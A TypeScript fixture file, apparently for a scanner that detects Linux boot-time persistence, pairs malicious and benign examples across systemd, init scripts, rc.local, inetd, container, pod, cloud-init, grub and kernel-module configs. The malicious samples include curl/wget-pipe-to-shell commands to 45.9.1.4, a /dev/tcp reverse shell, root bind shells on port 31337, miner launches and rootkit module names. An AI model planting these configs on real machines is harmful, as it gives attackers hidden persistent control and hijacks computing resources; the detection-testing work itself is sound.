// Forms of what runs at boot: units, init systems, supervisors, boot loaders and images.
import { type FormsByKind, script } from './form.ts'

const wanted = (name: string, unit: string) => ({
  [`/etc/systemd/system/${name}`]: unit,
  [`/etc/systemd/system/multi-user.target.wants/${name}`]: { link: `/etc/systemd/system/${name}` },
})

export const boot: FormsByKind = {
  'systemd-service': {
    malicious: [
      {
        '/etc/systemd/system/kworkerds.service':
          '[Unit]\nDescription=kw\n[Service]\nExecStart=/usr/lib/.kworker/kworkerds\nRestart=always\n[Install]\nWantedBy=multi-user.target\n',
      },
      wanted(
        'c3pool.service',
        '[Service]\nExecStart=/root/c3pool/svc -o auto.c3pool.org:443 --tls -u 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge -k\n[Install]\nWantedBy=multi-user.target\n',
      ),
      wanted(
        'pwnriglhttps.service',
        '[Service]\nExecStart=/bin/bash -c "wget -q -O - http://45.9.1.4/p | bash"\n[Install]\nWantedBy=multi-user.target\n',
      ),
      wanted('py.service', '[Service]\nExecStart=/usr/bin/python3 -c "import base64;exec(base64.b64decode(\'aW1wb3J0IG9z\'))"\n'),
    ],
    benign: [
      {
        ...wanted(
          'app.service',
          '[Service]\nUser=app\nWorkingDirectory=/opt/app\nExecStart=/opt/app/.venv/bin/gunicorn --bind 127.0.0.1:8000 app.wsgi\nRestart=always\n[Install]\nWantedBy=multi-user.target\n',
        ),
        ...wanted(
          'gitlab-runner.service',
          '[Service]\nExecStart=/usr/bin/gitlab-runner "run" "--config" "/etc/gitlab-runner/config.toml" "--working-directory" "/home/gitlab-runner" "--service" "gitlab-runner" "--user" "gitlab-runner"\n[Install]\nWantedBy=multi-user.target\n',
        ),
        ...wanted(
          'node_exporter.service',
          '[Service]\nUser=node_exporter\nExecStart=/usr/local/bin/node_exporter --collector.systemd\n[Install]\nWantedBy=multi-user.target\n',
        ),
      },
      {
        '/usr/lib/systemd/system/fail2ban.service':
          '[Service]\nType=simple\nExecStartPre=/bin/mkdir -p /run/fail2ban\nExecStart=/usr/bin/fail2ban-server -xf start\nExecStop=/usr/bin/fail2ban-client stop\n[Install]\nWantedBy=multi-user.target\n',
        '/usr/lib/systemd/system/docker.service':
          '[Service]\nType=notify\nExecStart=/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock\n[Install]\nWantedBy=multi-user.target\n',
        '/etc/systemd/system/jenkins-agent.service':
          '[Service]\nUser=jenkins\nExecStart=/usr/bin/java -jar /var/lib/jenkins/agent.jar -url https://ci.example.com/ -secret x -name a\n',
        '/etc/systemd/system/pm2-bob.service':
          '[Service]\nType=forking\nUser=bob\nExecStart=/home/bob/.nvm/versions/node/v18.0.0/lib/node_modules/pm2/bin/pm2 resurrect\n[Install]\nWantedBy=multi-user.target\n',
      },
    ],
  },
  'systemd-user-unit': {
    malicious: [
      {
        '/home/bob/.config/systemd/user/g.service':
          '[Service]\nExecStart=/home/bob/.config/.gpu/miner --algo kawpow --server rvn.2miners.com:6060 --user RXXX\n',
      },
      { '/home/bob/.config/systemd/user/x.service': '[Service]\nExecStart=/home/bob/.local/share/.sys/dbus-daemon\n' },
    ],
    benign: [
      {
        '/home/bob/.config/systemd/user/syncthing.service':
          '[Service]\nExecStart=/usr/bin/syncthing serve --no-browser\n[Install]\nWantedBy=default.target\n',
      },
      {
        '/home/bob/.config/systemd/user/podman-web.service': '[Service]\nExecStart=/usr/bin/podman start -a web\n',
        '/home/bob/.config/systemd/user/notify.service': '[Service]\nExecStart=%h/.local/bin/notify\n',
      },
    ],
  },
  'systemd-path': {
    malicious: [
      {
        '/etc/systemd/system/guard.path': '[Path]\nPathChanged=/usr/local/bin/m\n',
        '/etc/systemd/system/guard.service': '[Service]\nExecStart=/bin/sh /tmp/.g/restore\n',
      },
    ],
    benign: [
      {
        '/etc/systemd/system/nginx-reload.path': '[Path]\nPathChanged=/etc/letsencrypt/live\n',
        '/etc/systemd/system/nginx-reload.service': '[Service]\nExecStart=/bin/systemctl reload nginx\n',
      },
    ],
  },
  'systemd-socket': {
    malicious: [
      {
        '/etc/systemd/system/door.socket': '[Socket]\nListenStream=31337\nAccept=yes\n[Install]\nWantedBy=sockets.target\n',
        '/etc/systemd/system/sockets.target.wants/door.socket': { link: '/etc/systemd/system/door.socket' },
        '/etc/systemd/system/door@.service': '[Service]\nExecStart=-/bin/bash -i\nStandardInput=socket\n',
      },
      {
        '/etc/systemd/system/pre.socket': '[Socket]\nListenFIFO=/run/p\nExecStartPre=/var/tmp/.p/x\n[Install]\nWantedBy=sockets.target\n',
        '/etc/systemd/system/sockets.target.wants/pre.socket': { link: '/etc/systemd/system/pre.socket' },
        '/etc/systemd/system/pre.service': '[Service]\nExecStart=/bin/true\n',
      },
    ],
    benign: [
      {
        '/usr/lib/systemd/system/docker.socket':
          '[Socket]\nListenStream=/run/docker.sock\nSocketMode=0660\n[Install]\nWantedBy=sockets.target\n',
        '/usr/lib/systemd/system/docker.service': '[Service]\nExecStart=/usr/bin/dockerd -H fd://\n',
      },
    ],
  },
  'systemd-drop-in': {
    malicious: [
      { '/etc/systemd/system/ssh.service.d/10-x.conf': '[Service]\nExecStartPost=/bin/sh -c "/var/tmp/.s/x &"\n' },
      { '/etc/systemd/system/cron.service.d/o.conf': '[Service]\nExecStartPre=/bin/sh -c "curl -s http://45.9.1.4/c | sh"\n' },
    ],
    benign: [
      {
        '/etc/systemd/system/docker.service.d/override.conf':
          '[Service]\nExecStart=\nExecStart=/usr/bin/dockerd -H fd:// -H tcp://127.0.0.1:2375\n',
        '/etc/systemd/system/getty@tty1.service.d/autologin.conf':
          '[Service]\nExecStart=\nExecStart=-/sbin/agetty --autologin bob --noclear %I $TERM\n',
      },
      {
        '/etc/systemd/system/nginx.service.d/limits.conf':
          '[Service]\nLimitNOFILE=65536\nExecStartPre=/usr/local/bin/render-config /etc/nginx\n',
      },
    ],
  },
  'systemd-generator': {
    malicious: [
      { '/usr/lib/systemd/system-generators/x': script('/var/tmp/.gen/x') },
      { '/etc/systemd/system-generators/net-gen': script('setsid /usr/lib/.n/agent >/dev/null 2>&1 &') },
    ],
    benign: [
      {
        '/usr/lib/systemd/system-generators/friendly-recovery': script(
          'set -eu\nif grep -q recovery /proc/cmdline; then\n  ln -sf /lib/systemd/system/friendly-recovery.target "$3/default.target"\nfi',
        ),
      },
      {
        '/usr/lib/systemd/system-generators/cloud-init-generator': script(
          'set -f\nRUN_ENABLED_FILE="/run/cloud-init/enabled"\ndebug() { :; }\nread_proc_cmdline() { _RET=$(cat /proc/cmdline); }\nmain() {\n  local normal_d="$1"\n  ln -snf /lib/systemd/system/cloud-init.target "$normal_d/multi-user.target.wants/cloud-init.target"\n}\nmain "$@"',
        ),
      },
    ],
  },
  'sysv-init': {
    malicious: [
      { '/etc/init.d/DbSecuritySpt': script('/usr/bin/.sshd/getty') },
      { '/etc/init.d/netdns': script('case $1 in\nstart)\n  /tmp/.nd/netdns &\n;;\nesac') },
    ],
    benign: [
      {
        '/etc/init.d/myapp': script(
          '### BEGIN INIT INFO\n# Provides: myapp\n# Required-Start: $remote_fs\n# Default-Start: 2 3 4 5\n### END INIT INFO\nDAEMON=/opt/myapp/bin/myapp\nPIDFILE=/var/run/myapp.pid\ncase "$1" in\n start) start-stop-daemon --start --background --make-pidfile --pidfile $PIDFILE --exec $DAEMON ;;\n stop) start-stop-daemon --stop --pidfile $PIDFILE ;;\nesac',
        ),
      },
      {
        '/etc/init.d/x11-common': script(
          'SOCKET_DIR=.X11-unix\nset_up_dir () {\n  DIR="/tmp/$1"\n  mkdir -m 01777 $DIR\n  chmod 01777 /tmp/.X11-unix\n}\ncase "$1" in start) set_up_dir $SOCKET_DIR;; esac',
        ),
      },
    ],
  },
  'rc-links': {
    malicious: [{ '/etc/rc5.d/S99x': script('/dev/shm/.x/y &') }, { '/etc/rc.d/rc2.d/S01gone': { link: '/tmp/.gone/x' } }],
    benign: [{ '/etc/init.d/cron': script('/usr/sbin/cron'), '/etc/rc2.d/S01cron': { link: '../init.d/cron' } }],
  },
  'rc-local': {
    malicious: [
      {
        '/etc/rc.local': script(
          '/root/.local/.xm/svc -o pool.example.net:443 --tls -k -u 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge --rig-id x -B\nexit 0',
        ),
      },
      { '/etc/rc.local': script('nohup /usr/share/.rsync/c/go >/dev/null 2>&1 &\nexit 0') },
      { '/etc/rc.local': script('bash -i >& /dev/tcp/45.9.1.4/443 0>&1 &\nexit 0') },
    ],
    benign: [
      {
        '/etc/rc.local': script(
          'echo never > /sys/kernel/mm/transparent_hugepage/enabled\niptables-restore < /etc/iptables.rules\n/usr/bin/nvidia-smi -pm 1\n/opt/app/bin/start.sh\nsu - bob -c "/home/bob/bin/tmux-start"\nexit 0',
        ),
      },
      {
        '/etc/rc.d/rc.local': {
          content:
            '#!/bin/bash\n# THIS FILE IS ADDED FOR COMPATIBILITY PURPOSES\ntouch /var/lock/subsys/local\nnohup /usr/local/frp/frpc -c /usr/local/frp/frpc.ini >/dev/null 2>&1 &\n',
          mode: 0o755,
        },
      },
    ],
  },
  inittab: {
    malicious: [{ '/etc/inittab': 'x1:2345:respawn:/usr/lib/.i/x\n' }],
    benign: [
      {
        '/etc/inittab':
          '::sysinit:/sbin/openrc sysinit\n::wait:/sbin/openrc default\ntty1::respawn:/sbin/getty 38400 tty1\n::ctrlaltdel:/sbin/reboot\n::shutdown:/sbin/openrc shutdown\n',
      },
    ],
  },
  openrc: {
    malicious: [
      { '/etc/local.d/x.start': script('/var/tmp/.x/y &') },
      { '/etc/local.d/net.start': script('wget -qO- http://45.9.1.4/o | sh') },
    ],
    benign: [
      {
        '/etc/local.d/sysctl.start': script('echo 1 > /proc/sys/net/ipv4/ip_forward\n/usr/local/bin/firewall.sh'),
        '/etc/init.d/crond': script(''),
        '/etc/runlevels/default/crond': { link: '/etc/init.d/crond' },
      },
    ],
  },
  upstart: {
    malicious: [
      { '/etc/init/miner.conf': 'start on runlevel [2345]\nrespawn\nexec /tmp/.x/y\n' },
      { '/etc/init/u.conf': 'start on startup\nscript\n  curl -s http://45.9.1.4/u | sh\nend script\n' },
    ],
    benign: [
      {
        '/etc/init/mysql.conf':
          'start on runlevel [2345]\nstop on starting rc RUNLEVEL=[016]\nrespawn\npre-start script\n  [ -d /var/run/mysqld ] || install -m 755 -o mysql -g root -d /var/run/mysqld\nend script\nexec /usr/sbin/mysqld\n',
      },
    ],
  },
  inetd: {
    malicious: [
      { '/etc/inetd.conf': '31337 stream tcp nowait root /bin/sh sh -i\n' },
      { '/etc/inetd.conf': 'time stream tcp nowait root /usr/lib/.t/timed timed\n' },
    ],
    benign: [
      {
        '/etc/inetd.conf':
          'ftp stream tcp nowait root /usr/sbin/tcpd /usr/sbin/in.ftpd\n6556 stream tcp nowait root /usr/bin/check_mk_agent check_mk_agent\n',
      },
    ],
  },
  xinetd: {
    malicious: [
      {
        '/etc/xinetd.conf': 'includedir /etc/xinetd.d\n',
        '/etc/xinetd.d/x':
          'service x\n{\n port = 31337\n type = UNLISTED\n wait = no\n user = root\n server = /bin/sh\n server_args = -i\n}\n',
      },
      { '/etc/xinetd.d/y': 'service y\n{\n port = 99\n user = root\n server = /var/tmp/.y/z\n}\n' },
    ],
    benign: [
      {
        '/etc/xinetd.d/tftp':
          'service tftp\n{\n socket_type = dgram\n protocol = udp\n user = root\n server = /usr/sbin/in.tftpd\n server_args = -s /var/lib/tftpboot\n disable = no\n}\n',
      },
    ],
  },
  pm2: {
    malicious: [
      {
        '/home/bob/.pm2/dump.pm2': JSON.stringify([
          {
            name: 'web',
            pm_exec_path: '/home/bob/.cache/.w/next-server',
            args: [],
            pm_cwd: '/home/bob',
            exec_interpreter: 'none',
            exec_mode: 'fork_mode',
          },
        ]),
      },
      {
        '/root/.pm2/dump.pm2': JSON.stringify([
          {
            name: 'node',
            pm_exec_path: '/root/app/node',
            args: ['-o', 'stratum+ssl://pool.example.com:443', '-u', 'wallet', '-p', 'x'],
            pm_cwd: '/root/app',
            exec_interpreter: 'none',
            exec_mode: 'fork_mode',
          },
        ]),
      },
    ],
    benign: [
      {
        '/home/bob/.pm2/dump.pm2': JSON.stringify([
          {
            name: 'api',
            pm_exec_path: '/home/bob/api/dist/server.js',
            args: ['--port', '3000'],
            pm_cwd: '/home/bob/api',
            exec_interpreter: '/home/bob/.nvm/versions/node/v20.1.0/bin/node',
            exec_mode: 'cluster_mode',
          },
        ]),
      },
    ],
  },
  'docker-restart': {
    malicious: [
      container('busybox', ['xmrig', '-o', 'stratum+tcp://pool.example.com:3333', '-u', 'x']),
      container('alpine', ['sh', '-c', 'wget -qO- http://45.9.1.4/d | sh']),
    ],
    benign: [container('nginx:1.27', ['nginx', '-g', 'daemon off;']), container('postgres:16', ['postgres', '-c', 'shared_buffers=1GB'])],
  },
  supervisord: {
    malicious: [
      {
        '/etc/supervisor/conf.d/j.conf':
          '[program:java]\ncommand=/opt/.java/java -o stratum+tcp://p.example.com:3333 -u x\nautorestart=true\n',
      },
      { '/etc/supervisord.d/k.ini': '[program:k]\ncommand=/dev/shm/.k/kthreadd\n' },
    ],
    benign: [
      {
        '/etc/supervisor/conf.d/worker.conf':
          '[program:worker]\ncommand=php /var/www/app/artisan queue:work --sleep=3 --tries=3\nuser=www-data\nautorestart=true\n[program:celery]\ncommand=/srv/app/.venv/bin/celery -A app worker -l info\n',
      },
    ],
  },
  monit: {
    malicious: [
      { '/etc/monit/conf.d/x': 'check process x with pidfile /run/x.pid\n  start program = "/var/tmp/.m/x"\n' },
      { '/etc/monit/monitrc': 'check process a matching "a"\n  start program = "/bin/sh -c \'curl -s http://45.9.1.4/m | sh\'"\n' },
    ],
    benign: [
      {
        '/etc/monit/conf.d/nginx':
          'check process nginx with pidfile /run/nginx.pid\n  start program = "/bin/systemctl start nginx"\n  stop program = "/bin/systemctl stop nginx"\n  if failed port 80 protocol http then restart\n',
      },
    ],
  },
  'kubelet-static-pod': {
    malicious: [
      { '/etc/kubernetes/manifests/cache.yaml': pod('cache', 'alpine', ['/bin/sh', '-c', 'wget -qO- http://45.9.1.4/k | sh']) },
      {
        '/etc/kubernetes/manifests/proxy.yaml': pod('proxy', 'x/y', [
          '/app/proxy',
          '-o',
          'stratum+tcp://pool.example.com:3333',
          '-u',
          'x',
          '-p',
          'x',
        ]),
      },
    ],
    benign: [
      {
        '/etc/kubernetes/manifests/etcd.yaml': pod('etcd', 'registry.k8s.io/etcd:3.5.9-0', [
          'etcd',
          '--advertise-client-urls=https://10.0.0.1:2379',
          '--data-dir=/var/lib/etcd',
        ]),
      },
    ],
  },
  'cloud-init': {
    malicious: [
      { '/var/lib/cloud/scripts/per-boot/x.sh': script('/var/tmp/.c/x &') },
      { '/etc/cloud/cloud.cfg.d/99.cfg': '#cloud-config\nbootcmd:\n - curl http://45.9.1.4/x | sh\n' },
    ],
    benign: [
      {
        '/etc/cloud/cloud.cfg.d/10-setup.cfg':
          '#cloud-config\nruncmd:\n - systemctl enable --now docker\n - [ sh, -c, "echo ready > /run/ready" ]\n',
        '/var/lib/cloud/scripts/per-boot/00-mount.sh': script('mount -a\n/usr/local/bin/attach-volume'),
      },
    ],
  },
  'initramfs-hook': {
    malicious: [
      { '/etc/initramfs-tools/hooks/x': script('cp /tmp/.ir/x $DESTDIR/') },
      { '/etc/initramfs-tools/scripts/init-bottom/net': script('/usr/lib/.ir/agent &') },
    ],
    benign: [
      {
        '/etc/initramfs-tools/hooks/crypt_unlock.sh': script(
          'PREREQ="dropbear"\nprereqs() { echo "$PREREQ"; }\ncase $1 in prereqs) prereqs; exit 0;; esac\n. "/usr/share/initramfs-tools/hook-functions"\ncopy_exec /sbin/cryptsetup /sbin\ncp /etc/luks/keyfile "${DESTDIR}/etc/"\necho "/lib/cryptsetup/askpass /dev/console > /lib/cryptsetup/passfifo" > "${DESTDIR}/bin/unlock"\nchmod 700 "${DESTDIR}/bin/unlock"',
        ),
      },
    ],
  },
  grub: {
    malicious: [{ '/etc/default/grub': 'GRUB_CMDLINE_LINUX="init=/usr/lib/.init"\n' }],
    benign: [
      {
        '/etc/default/grub':
          'GRUB_DEFAULT=0\nGRUB_TIMEOUT=5\nGRUB_DISTRIBUTOR=`lsb_release -i -s 2> /dev/null || echo Debian`\nGRUB_CMDLINE_LINUX_DEFAULT="quiet splash"\nGRUB_CMDLINE_LINUX="init=/usr/lib/systemd/systemd net.ifnames=0"\n',
      },
    ],
  },
  'modules-load': {
    malicious: [{ '/etc/modules-load.d/x.conf': 'diamorphine\n' }, { '/etc/modules': 'reptile_module\n' }],
    benign: [{ '/etc/modules': 'loop\nbr_netfilter\noverlay\nmsr\n', '/etc/modules-load.d/k8s.conf': 'ip_vs\nnf_conntrack\nwireguard\n' }],
  },
}

function container(image: string, command: readonly string[]) {
  const id = 'a'.repeat(64)
  const folder = `/var/lib/docker/containers/${id}`
  return {
    [`${folder}/hostconfig.json`]: JSON.stringify({
      RestartPolicy: { Name: 'always', MaximumRetryCount: 0 },
      Binds: null,
      Privileged: false,
    }),
    [`${folder}/config.v2.json`]: JSON.stringify({
      ID: id,
      Name: '/job',
      Path: command[0],
      Args: command.slice(1),
      Config: { Image: image, User: '', Cmd: command, Entrypoint: null },
      State: { Running: false },
      Driver: 'overlay2',
    }),
  }
}

function pod(name: string, image: string, command: readonly string[]): string {
  const list = command.map(word => `    - ${JSON.stringify(word)}\n`).join('')
  return `apiVersion: v1\nkind: Pod\nmetadata:\n  name: ${name}\n  namespace: kube-system\nspec:\n  containers:\n  - name: ${name}\n    image: ${image}\n    command:\n${list}`
}
